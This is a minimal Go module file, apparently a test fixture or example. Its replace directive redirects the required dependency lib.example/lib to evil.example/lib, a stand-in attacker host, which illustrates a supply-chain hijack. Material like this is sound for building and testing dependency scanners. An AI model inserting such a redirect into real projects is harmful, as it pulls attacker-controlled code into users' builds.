module app.example/app

go 1.22

require lib.example/lib v1.0.0

replace lib.example/lib => evil.example/lib v1.0.0
